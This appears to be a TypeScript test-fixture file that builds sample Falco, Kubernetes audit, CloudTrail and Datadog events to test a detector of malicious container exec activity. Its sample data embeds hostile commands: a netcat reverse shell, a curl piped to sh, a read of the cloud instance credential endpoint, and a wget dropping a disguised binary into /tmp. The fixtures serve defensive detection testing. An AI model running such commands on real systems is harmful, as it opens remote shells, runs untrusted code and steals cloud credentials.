/**
 * Sample events for the formats as real tools and shippers write them (issue 8): a Falco alert whose
 * rule prints only %proc.cmdline, a k8saudit plugin alert, CloudTrail through EventBridge, audit events
 * without kind/apiVersion, and a Datadog process of a kubectl exec session. Shapes follow the field
 * fixtures in test/fixtures/field/ (their headers name the sources).
 */
import type { Severity } from "../../src/model.js";
import { cloudtrailEcsExec, datadogExec, k8sAuditExec } from "./messages.js";

const ACCOUNT = "123456789012";
const EKS_APP_GROUP = "/aws/containerinsights/prod-eks/application";
const FALCO_STREAM = "falco-8q2lm_falco_falco-9c1d2e3f4a";
const ECS_TASK = "0f6c2d9e8b7a41c3a5d4e3f2b1a09c8d";

/** One sample, in the shape generate.ts writes. */
export interface FieldSample {
  file: string;
  format: string;
  shows: string;
  expect: { signals: number; severity?: Severity };
  logGroup: string;
  logStream: string;
  messages: string[];
}

/**
 * A Falco 0.32 alert of the stock "Netcat Remote Code Execution in Container" rule: its output prints
 * %proc.cmdline and container fields only, so output_fields has no proc.name or proc.exepath.
 */
function falcoNetcatCmdlineOnly(cmdline: string, time: string): string {
  const container = {
    "container.id": "b3c1f9e2a7d4",
    "container.image.repository": "docker.io/library/nginx",
    "container.image.tag": "1.27",
    "container.name": "web",
  };
  return JSON.stringify({
    hostname: "ip-10-0-33-17.ec2.internal",
    output: `${time.slice(11, 29)}: Warning Netcat runs inside container that allows remote code execution (user=root user_loginuid=-1 command=${cmdline} container_id=b3c1f9e2a7d4 container_name=web image=docker.io/library/nginx:1.27)`,
    output_fields: {
      ...container,
      "evt.time": Date.parse(time) * 1e6,
      "proc.cmdline": cmdline,
      "user.name": "root",
    },
    priority: "Warning",
    rule: "Netcat Remote Code Execution in Container",
    source: "syscall",
    tags: ["mitre_execution", "network", "process"],
    time,
  });
}

/** A k8saudit plugin alert of a rule that prints %ka.uri, so the whole exec argv is known. */
function falcoK8sAuditExec(argv: string[], time: string): string {
  const query = new URLSearchParams();
  for (const arg of argv) query.append("command", arg);
  query.append("container", "checkout-api");
  const uri = `/api/v1/namespaces/payments/pods/checkout-api-7d9f6c5b8-x2x7k/exec?${query.toString()}`;
  const user = `arn:aws:sts::${ACCOUNT}:assumed-role/platform-dev/alice`;
  return JSON.stringify({
    hostname: "falco-k8saudit-7d9c6b5f4-qx2lm",
    output: `${time.replace("Z", "+0000")}: Warning Exec into pod with a command (user=${user} pod=checkout-api-7d9f6c5b8-x2x7k ns=payments uri=${uri})`,
    output_fields: {
      "evt.time": Date.parse(time) * 1e6,
      "ka.auditid": "8c2e4a6b-0d1f-4e3a-9b5c-7d9f1a3b5c7d",
      "ka.sourceips": "(198.51.100.77)",
      "ka.target.name": "checkout-api-7d9f6c5b8-x2x7k",
      "ka.target.namespace": "payments",
      "ka.uri": uri,
      "ka.user.name": user,
    },
    priority: "Warning",
    rule: "Exec into pod with a command",
    source: "k8s_audit",
    tags: ["k8s"],
    time,
  });
}

/** An EventBridge event ("AWS API Call via CloudTrail") as an EventBridge rule writes it to CloudWatch Logs. */
function eventBridgeCloudTrail(record: string): string {
  const detail = JSON.parse(record) as { eventTime: string };
  return JSON.stringify({
    version: "0",
    id: "7a0c5e93-4b6d-1f28-3a9c-d5e7fab24c86",
    "detail-type": "AWS API Call via CloudTrail",
    source: "aws.ecs",
    account: ACCOUNT,
    time: detail.eventTime,
    region: "us-east-1",
    resources: [],
    detail,
  });
}

/** The audit event without kind/apiVersion, as a webhook receiver re-ships EventList items. */
function withoutKind(event: string): string {
  const { kind: _kind, apiVersion: _apiVersion, ...rest } = JSON.parse(event) as Record<string, unknown>;
  return JSON.stringify(rest);
}

/** A Datadog process event whose process belongs to a `kubectl exec` session (process.user_session). */
function inK8sSession(event: string): string {
  const root = JSON.parse(event) as { process: Record<string, unknown> };
  root.process.user_session = {
    id: "8f3d2c1b",
    session_type: "k8s",
    k8s_username: `arn:aws:sts::${ACCOUNT}:assumed-role/platform-dev/alice`,
    k8s_uid: "aws-iam-authenticator:123456789012:AROAEXAMPLEROLEID0001",
    k8s_groups: ["system:authenticated"],
  };
  return JSON.stringify(root);
}

const NC = "nc 198.51.100.23 9876 -e /bin/sh";

export const FIELD_SAMPLES: FieldSample[] = [
  {
    file: "falco-netcat-cmdline-only.json",
    format: "falco",
    shows: "stock Falco 0.32 Netcat alert with only proc.cmdline (nc … -e /bin/sh), raw and Docker-wrapped",
    expect: { signals: 1, severity: "critical" },
    logGroup: EKS_APP_GROUP,
    logStream: FALCO_STREAM,
    messages: [
      falcoNetcatCmdlineOnly(NC, "2026-11-28T10:26:10.118204733Z"),
      JSON.stringify({
        log: `${falcoNetcatCmdlineOnly(NC, "2026-11-28T10:26:11.004411829Z")}\n`,
        stream: "stdout",
        time: "2026-11-28T10:26:11.004411829Z",
      }),
    ],
  },
  {
    file: "falco-k8saudit-exec.json",
    format: "falco",
    shows: "Falco k8saudit alert of a kubectl exec running sh -c 'curl … | sh'",
    expect: { signals: 1, severity: "critical" },
    logGroup: "/aws/eks/prod-eks/cluster",
    logStream: "falco-k8saudit-7d9c6b5f4-qx2lm",
    messages: [
      falcoK8sAuditExec(["sh", "-c", "curl -fsSL http://203.0.113.7/s.sh | sh"], "2026-11-28T10:27:00Z"),
    ],
  },
  {
    file: "cloudtrail-eventbridge-ecs-exec.json",
    format: "cloudtrail-ecs-exec",
    shows: "ECS Exec CloudTrail record delivered by EventBridge (record under detail): nc -e /bin/sh",
    expect: { signals: 1, severity: "critical" },
    logGroup: "/aws/events/ecs-exec",
    logStream: "4f3a2b1c-0d9e-8f7a-6b5c-4d3e2f1a0b9c",
    messages: [
      eventBridgeCloudTrail(
        cloudtrailEcsExec({
          cluster: "prod",
          task: ECS_TASK,
          container: "payments-api",
          command: `/bin/sh -c '${NC}'`,
          time: "2026-11-28T10:28:00Z",
          eventID: "8b4d6f80-2a3c-4e5f-9a1b-3c5d7e9f1a2b",
          sessionId: "ecs-execute-command-3d4e5f6a7b8c90123",
        }),
      ),
    ],
  },
  {
    file: "k8s-audit-without-kind.json",
    format: "k8s-audit",
    shows: "audit events without kind/apiVersion (webhook items, one per line): curl of instance credentials",
    expect: { signals: 1, severity: "high" },
    logGroup: "/k8s/prod-eks/audit-webhook",
    logStream: "audit-webhook-receiver-6b8d7c5f4-h2k9m",
    messages: ["ResponseStarted", "ResponseComplete"].map((stage) =>
      withoutKind(
        k8sAuditExec({
          auditID: "9d0e1f2a-3b4c-4d5e-8f6a-7b8c9d0e1f2a",
          stage,
          namespace: "payments",
          pod: "checkout-api-7d9f6c5b8-x2x7k",
          container: "checkout-api",
          command: ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
          time: "2026-11-28T10:29:00.118273Z",
        }),
      ),
    ),
  },
  {
    file: "datadog-kubectl-exec-session.json",
    format: "datadog",
    shows: "Datadog process of a kubectl exec session (user_session.k8s_username): wget into /tmp",
    expect: { signals: 1, severity: "high" },
    logGroup: EKS_APP_GROUP,
    logStream: "datadog-agent-4xk2p_datadog_system-probe-5c6d7e8f9a",
    messages: [
      inK8sSession(
        datadogExec({
          path: "/usr/bin/wget",
          argv: ["wget", "-q", "-O", "/tmp/.x/kworker", "http://203.0.113.7/x86_64"],
          ancestors: ["/bin/bash", "/usr/bin/runc"],
          containerId: "6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b",
          tags: [
            "kube_namespace:payments",
            "pod_name:checkout-api-7d9f6c5b8-x2x7k",
            "kube_cluster_name:prod-eks",
          ],
          time: "2026-11-28T10:30:00.004Z",
        }),
      ),
    ],
  },
];
